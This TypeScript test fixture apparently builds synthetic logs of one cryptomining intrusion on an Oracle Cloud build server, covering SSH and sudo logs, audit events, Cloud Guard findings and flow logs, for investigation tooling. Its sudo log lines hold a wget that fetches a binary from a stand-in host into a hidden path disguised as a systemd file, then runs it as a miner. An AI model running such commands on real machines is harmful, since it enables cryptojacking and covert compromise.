import type { Files } from './investigated-files.ts';

export const tenancy = 'ocid1.tenancy.oc1..exampletenancy';
export const compartment = 'ocid1.compartment.oc1..examplebuilds';
export const host = 'build-server-03';
export const instance = 'ocid1.instance.oc1.iad.examplebuild03';
export const stranger = 'ocid1.instance.oc1.iad.exampleunknown';
const vnic = 'ocid1.vnic.oc1.iad.examplebuild03';
export const office = '198.51.100.7';
export const thief = '203.0.113.89';
const pool = '203.0.113.240';
const key = 'SHA256:uNiVztksCsDhcc0u9e8BrVvTXoxfrCTSTOVfSSvH0mA';

export const said = (time: string, program: string, text: string, on = host): string =>
  `${time} ${on} ${program}: ${text}`;
export const signedIn = (time: string, pid: number, address: string, on = host): string =>
  said(time, `sshd[${pid}]`, `Accepted publickey for devops from ${address} port 51022 ssh2: ED25519 ${key}`, on);
export const ranAsRoot = (time: string, command: string, on = host): string =>
  said(time, 'sudo[1010]', `  devops : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=${command}`, on);

type Json = string | number | boolean | null | readonly Json[] | { readonly [key: string]: Json };

/** A record of Oracle's audit on the day of the intrusion. */
const audited = (uid: string, clock: string, type: string, more: { readonly [key: string]: Json } = {}): string => {
  const {
    principalId = 'ocid1.user.oc1..exampleadmin',
    principalName = 'admin@example.com',
    ipAddress = office,
    ...data
  } = more;
  return JSON.stringify({
    eventType: `com.oraclecloud.${type}`,
    cloudEventsVersion: '0.1',
    eventTypeVersion: '2.0',
    eventId: uid,
    eventTime: `2024-02-${clock}Z`,
    data: {
      eventName: type.split('.')[1] ?? type,
      compartmentId: compartment,
      resourceId: null,
      identity: { tenantId: tenancy, principalId, principalName, ipAddress, userAgent: 'Oracle-PythonSDK/2.139.1' },
      request: { action: /\.(?:List|Get)/.test(type) ? 'GET' : 'POST', parameters: {} },
      response: { status: '200', payload: {} },
      stateChange: { previous: null, current: null },
      ...data,
    },
  });
};

/** A problem of Cloud Guard with an instance. */
export const problem = (id: string, resourceId: string, resourceName: string, tenantId = tenancy): string =>
  JSON.stringify({
    eventType: 'com.oraclecloud.cloudguard.problemdetected',
    cloudEventsVersion: '0.1',
    eventTypeVersion: '2.0',
    source: 'CloudGuardResponderEngine',
    eventTime: '2024-02-10T14:32:00Z',
    eventID: id,
    contentType: 'application/json',
    data: {
      compartmentId: compartment,
      compartmentName: 'builds',
      resourceName: 'Cryptomining on an instance',
      resourceId: `ocid1.cloudguardproblem.oc1.iad.${id}`,
      additionalDetails: {
        tenantId,
        status: 'OPEN',
        riskLevel: 'CRITICAL',
        problemName: 'CRYPTOMINING',
        problemType: 'ACTIVITY',
        resourceType: 'Instance',
        resourceName,
        resourceId,
        region: 'us-ashburn-1',
      },
    },
  });

const flow = (minute: number, from: string, to: string, destinationPort: number): string =>
  JSON.stringify({
    data: {
      action: 'ACCEPT',
      bytesOut: 420,
      destinationAddress: to,
      destinationPort,
      endTime: 1_707_570_900 + 60 * minute + 59,
      flowid: `flow${minute}`,
      packets: 6,
      protocol: 6,
      protocolName: 'TCP',
      sourceAddress: from,
      sourcePort: 40_000,
      startTime: 1_707_570_900 + 60 * minute,
      status: 'OK',
      version: '2',
    },
    id: `flow-${minute}-${destinationPort}-${from}`,
    oracle: {
      compartmentid: compartment,
      tenantid: tenancy,
      vnicocid: vnic,
      logid: 'ocid1.log.oc1.iad.example',
      vnicsubnetocid: 'ocid1.subnet.oc1.iad.example',
    },
    source: '-',
    specversion: '1.0',
    time: new Date((1_707_570_900 + 60 * minute) * 1000).toISOString(),
    type: 'com.oraclecloud.vcn.flowlogs.DataEvent',
  });

/** The machine's own log: three days of its owner's work, and who comes in with his key. */
export const ownLog: readonly string[] = [
  said(
    'Feb  7 08:00:01',
    'cloud-init[812]',
    'ci-info: | ens3 | True | 10.0.0.5 | 255.255.255.0 | global | 02:00:17:00:00:01 |',
  ),
  ...[7, 8, 9].flatMap((day) => [
    signedIn(`Feb  ${day} 13:02:10`, 800 + day, office),
    ranAsRoot(`Feb  ${day} 13:05:10`, '/usr/bin/apt update'),
    said(`Feb  ${day} 17:05:10`, `sshd[${800 + day}]`, `Disconnected from user devops ${office} port 51022`),
  ]),
  signedIn('Feb 10 13:15:02', 1000, thief),
  ranAsRoot('Feb 10 13:17:20', '/usr/bin/wget -q https://files.example.net/x -O /tmp/.systemd/systemd-update'),
  ranAsRoot('Feb 10 13:30:00', '/tmp/.systemd/systemd-update -o stratum+tcp://pool.example.net:3333 --donate-level 1'),
];

const machineCaller = { principalId: instance, principalName: host, ipAddress: '10.0.0.5' };

/** What Oracle's audit has of it: the launch, its own calls before and then, and how it was cut off and ended. */
const audit: readonly string[] = [
  audited('launch', '01T09:00:00', 'computeApi.LaunchInstance', {
    resourceId: instance,
    stateChange: {
      previous: null,
      current: { id: instance, displayName: host, shape: 'VM.Standard.E4.Flex', lifecycleState: 'PROVISIONING' },
    },
    additionalDetails: { shape: 'VM.Standard.E4.Flex' },
  }),
  audited('nic', '01T09:00:20', 'virtualNetwork.GetVnic', {
    resourceId: vnic,
    response: { status: '200', payload: { id: vnic, privateIp: '10.0.0.5', hostnameLabel: host } },
  }),
  ...['08', '09', '10'].map((day) =>
    audited(`own-${day}`, `${day}T03:00:00`, 'objectstorage.PutObject', {
      ...machineCaller,
      resourceId: '/n/x/b/nightly/o/1',
    }),
  ),
  audited('own-again', '10T13:40:00', 'objectstorage.PutObject', {
    ...machineCaller,
    resourceId: '/n/x/b/nightly/o/2',
  }),
  audited('stolen', '10T13:45:00', 'secrets.GetSecretBundle', {
    ...machineCaller,
    resourceId: 'ocid1.vaultsecret.oc1.iad.example',
  }),
  audited('cut-off', '10T14:50:00', 'virtualNetwork.UpdateVnic', {
    resourceId: vnic,
    stateChange: {
      previous: null,
      current: { id: vnic, nsgIds: ['ocid1.networksecuritygroup.oc1.iad.examplequarantine'] },
    },
  }),
  audited('console', '10T14:55:00', 'computeApi.CreateInstanceConsoleConnection', {
    resourceId: 'ocid1.instanceconsoleconnection.oc1.iad.example',
    stateChange: {
      previous: null,
      current: { id: 'ocid1.instanceconsoleconnection.oc1.iad.example', instanceId: instance },
    },
  }),
  audited('ended', '10T16:00:00', 'computeApi.TerminateInstance', { resourceId: instance }),
];

const inventory = JSON.stringify({
  items: [
    {
      resourceType: 'Instance',
      identifier: instance,
      compartmentId: compartment,
      timeCreated: '2024-02-01T09:00:00Z',
      displayName: host,
      availabilityDomain: null,
      lifecycleState: 'TERMINATED',
      freeformTags: {},
      definedTags: {},
    },
  ],
});

export const flows: readonly string[] = [
  flow(0, thief, '10.0.0.5', 22),
  flow(1, '10.0.0.5', '198.51.100.40', 443),
  ...Array.from({ length: 20 }, (_, minute) => flow(10 + minute, '10.0.0.5', pool, 3333)),
];

/** One intrusion into a machine of Oracle's cloud, as all of its sources tell it. */
export const oneIntrusion: Files = {
  'auth.log': ownLog,
  'audit.ndjson': audit,
  'problems.ndjson': [problem('mining', instance, host)],
  'flows.ndjson': flows,
  'inventory.json': [inventory],
};
